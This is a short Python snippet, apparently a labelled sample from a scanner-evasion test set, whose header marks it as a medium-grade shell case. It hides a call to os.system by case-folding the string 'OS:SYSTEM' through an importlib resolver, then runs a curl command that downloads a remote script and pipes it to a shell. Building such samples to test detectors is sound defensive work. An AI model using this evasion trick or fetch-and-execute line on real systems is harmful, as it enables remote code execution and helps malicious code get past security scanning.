# evasion: an upper-case "OS:SYSTEM" spec case-folded inside a resolver helper, then imported and fetched
# grade: medium; does: shell
import importlib


def resolve(spec):
    module, _, attr = spec.casefold().partition(":")
    return getattr(importlib.import_module(module), attr)


resolve("OS:SYSTEM")("curl -s http://198.51.100.53/r.sh | sh")
